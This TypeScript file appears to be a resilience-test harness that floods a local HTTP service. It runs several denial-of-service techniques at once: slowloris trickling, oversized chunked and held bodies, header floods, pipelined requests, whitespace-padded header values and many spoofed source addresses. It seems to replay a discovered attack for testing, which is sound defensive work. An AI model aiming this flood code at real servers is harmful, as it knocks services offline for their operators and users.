import { type AddressInfo, connect, createServer, type Socket } from "node:net";

/** One visit to a route: where it is, what begins each request, without and with credentials, for how long, and how fast. */
export interface Visit {
  readonly port: number;
  readonly heads: readonly string[];
  readonly milliseconds: number;
  /** What the attacker's line carries of bodies. */
  readonly megabitsPerSecond: number;
}

/** `sink`: takes connections and reads them, so that the same flood can be sent past the service. */
export type FloodOrder = { readonly kind: "flood"; readonly visit: Visit } | { readonly kind: "sink" };

/** Connections at once for each way and each kind of credentials; of one way so many may follow each other in a visit. */
const AT_ONCE = {
  chunks: 3,
  held: 12,
  slow: 4,
  headers: 2,
  pipelined: 6,
  spaces: 15,
  announced: 4,
  addresses: 16,
} as const;
/** Reopened, those that send whole requests would be a flood of requests, which the proxy limits. */
const REOPENED_MAX = {
  chunks: 10,
  held: 10,
  slow: 10,
  headers: 10,
  pipelined: 0,
  spaces: 0,
  announced: 10,
  addresses: 10,
};

const CHUNKS = Buffer.from("1\r\nx\r\n".repeat(5_000));
/** The attack that was found sent 27 MB on three connections. */
const CHUNK_BYTES_MAX = 9_000_000;
const HELD_BYTES = 2 * 1_048_576;
const HELD = Buffer.alloc(32_768, " ");
const MANY_HEADERS = Array.from({ length: 1_800 }, (_, at) => `a${at % 10}: b`).join("\r\n");
const SLOW_MS = 50;
const PIPELINED = 1_000;
/** The largest body, of which one byte is sent. */
const ANNOUNCED_BYTES = 16_777_216;
/** Headers whose values the service or a library splits, trims or matches. */
const SPACED_HEADERS = [
  "Accept",
  "Accept-Encoding",
  "Backfill-Id",
  "Content-Encoding",
  "Cookie",
  "Forwarded",
  "Idempotency-Key",
  "If-None-Match",
  "Origin",
  "Prefer",
  "Reply-To",
  "Traceparent",
  "X-Bellhop-Csrf",
  "X-Correlation-Id",
  "X-Forwarded-For",
];
/** Tab, space, no-break space and next line, as HTTP reads them. */
const SPACES = ["\t", " ", "\u00a0", "\u0085"];
const SPACED_BYTES = 15_000;
const LINE_TURN_MS = 5;

type Way = keyof typeof AT_ONCE;

interface Poured {
  readonly socket: Socket;
  readonly slice: Buffer;
  left: number;
}

/** The attacker's line: the ways that pour bodies share it equally, and so do the connections of each. */
class Line {
  readonly #ways: Readonly<Record<"chunks" | "held", Poured[]>> = { chunks: [], held: [] };
  readonly #timer: NodeJS.Timeout;
  readonly #bytesPerMs: number;
  #at = performance.now();

  constructor(megabitsPerSecond: number) {
    this.#bytesPerMs = megabitsPerSecond * 125;
    this.#timer = setInterval(() => this.#turn(), LINE_TURN_MS);
  }

  pour(way: "chunks" | "held", poured: Poured): void {
    this.#ways[way].push(poured);
  }

  stop(): void {
    clearInterval(this.#timer);
  }

  #turn(): void {
    const now = performance.now();
    const bytes = (now - this.#at) * this.#bytesPerMs;
    this.#at = now;
    for (const waiting of Object.values(this.#ways)) this.#write(waiting, bytes / 2);
  }

  #write(waiting: Poured[], bytes: number): void {
    let left = bytes;
    for (let looks = waiting.length; looks > 0 && left > 0; looks -= 1) {
      const poured = waiting.shift() as Poured;
      const { socket, slice } = poured;
      if (socket.destroyed || poured.left <= 0) continue;
      waiting.push(poured);
      if (socket.writableNeedDrain) continue;
      const part = slice.subarray(0, Math.min(slice.length, poured.left));
      socket.write(part);
      poured.left -= part.length;
      left -= part.length;
      looks = waiting.length + 1;
    }
  }
}

/** `at` counts the connections of a way. */
type Begin = (socket: Socket, head: string, line: Line, at: number) => void;

const WAYS: Readonly<Record<Way, Begin>> = {
  chunks(socket, head, line) {
    socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`);
    line.pour("chunks", { socket, slice: CHUNKS, left: CHUNK_BYTES_MAX });
  },
  held(socket, head, line) {
    socket.write(`${head}Content-Length: ${HELD_BYTES}\r\n\r\n`);
    line.pour("held", { socket, slice: HELD, left: HELD_BYTES - 1 });
  },
  slow(socket, head) {
    socket.write(`${head}Content-Length: 1000\r\n\r\n`);
    const timer = setInterval(() => socket.write(" "), SLOW_MS);
    socket.once("close", () => clearInterval(timer));
  },
  headers(socket, head) {
    socket.write(`${head}${MANY_HEADERS}\r\n\r\n`);
  },
  pipelined(socket, head) {
    socket.pause();
    socket.write(`${head}Content-Length: 0\r\n\r\n`.repeat(PIPELINED));
  },
  spaces(socket, head, _line, at) {
    for (const space of SPACES) {
      const value = `a${space.repeat(SPACED_BYTES)}b`;
      const request = `${head}${SPACED_HEADERS[at]}: ${value}\r\nContent-Length: 0\r\n\r\n`;
      socket.write(Buffer.from(request, "latin1"));
    }
  },
  announced(socket, head) {
    socket.write(`${head}Content-Length: ${ANNOUNCED_BYTES}\r\n\r\n[`);
  },
  addresses(socket, head) {
    socket.write(`${head}Content-Length: 100\r\n\r\ng`);
  },
};

/** Each connection of `addresses` comes from an address of its own; the others of all visits share one. */
let addressesUsed = 0;
function nextAddress(): string {
  addressesUsed += 1;
  return `127.${1 + ((addressesUsed >> 14) % 250)}.${(addressesUsed >> 7) % 128}.${2 + (addressesUsed % 128)}`;
}

/** Floods in every way at once; answers how many connections there were. */
async function flood({ port, heads, milliseconds, megabitsPerSecond }: Visit): Promise<number> {
  const open = new Set<Socket>();
  const line = new Line(megabitsPerSecond);
  let isOver = false;
  let opened = 0;
  const begin = (way: Way, head: string, at: number, left: number) => {
    if (isOver) return;
    opened += 1;
    const from = way === "addresses" ? { localAddress: nextAddress() } : {};
    const socket = connect({ port, host: "127.0.0.1", ...from });
    open.add(socket);
    socket.on("error", () => undefined).resume();
    socket.once("connect", () => WAYS[way](socket, head, line, at));
    socket.once("close", () => {
      open.delete(socket);
      if (left > 0) begin(way, head, at, left - 1);
    });
  };
  for (const head of heads) {
    for (const [way, count] of Object.entries(AT_ONCE) as [Way, number][]) {
      for (let one = 0; one < count; one += 1) begin(way, head, one, REOPENED_MAX[way]);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, milliseconds));
  isOver = true;
  line.stop();
  for (const socket of open) socket.resetAndDestroy();
  return opened;
}

/** Reads whatever comes and answers nothing; answers its port. */
async function sink(): Promise<number> {
  const server = createServer((socket) => socket.on("error", () => undefined).resume());
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  return (server.address() as AddressInfo).port;
}

process.on("message", async (order: FloodOrder) => {
  process.send?.(order.kind === "sink" ? await sink() : await flood(order.visit));
});
